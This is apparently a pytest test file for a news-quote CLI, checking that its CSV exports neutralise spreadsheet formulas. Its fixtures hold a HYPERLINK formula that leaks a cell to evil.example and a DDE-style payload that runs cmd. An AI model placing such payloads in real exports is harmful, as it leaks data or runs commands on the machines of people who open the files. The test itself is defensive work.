"""Every CSV the CLI writes (said, search, stories, export) neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.store.samples import rutte_article
from wortlaut.cli import main
from wortlaut.csv_safety import FORMULA_START, neutralise, safe_cell
from wortlaut.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Quelle")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "formulas.sqlite"
    article = rutte_article(quote=FORMULA)
    with Store.open(path) as store:
        store.add_many([article], link=False)
        store.connection.execute(
            "INSERT INTO stories VALUES ('st1', ?, '2024-12-18', '2024-12-18', 1, NULL)", (TITLE,)
        )
        store.connection.execute("INSERT INTO story_articles VALUES ('st1', ?, 1.0)", (article.id,))
    return path


def _cells(*args: str) -> list[str]:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [
        ("said", "Rutte", "--format", "csv"),
        ("search", "HYPERLINK", "--format", "csv"),
        ("stories", "--format", "csv"),
        ("export", "--format", "csv", "--table", "statements"),
    ],
)
def test_no_cell_of_a_cli_csv_starts_a_formula(db: Path, args: tuple[str, ...]) -> None:
    cells = _cells(*args, "--db", str(db))
    assert any(cell.startswith(("'=HYPERLINK", "'@SUM")) for cell in cells), cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.mark.parametrize("text", ["=1+1", "+49 30 1234", "-A1", "@x", "\tx", "\rx", "＝1"])
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    assert neutralise("Mark Rutte") == "Mark Rutte"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""
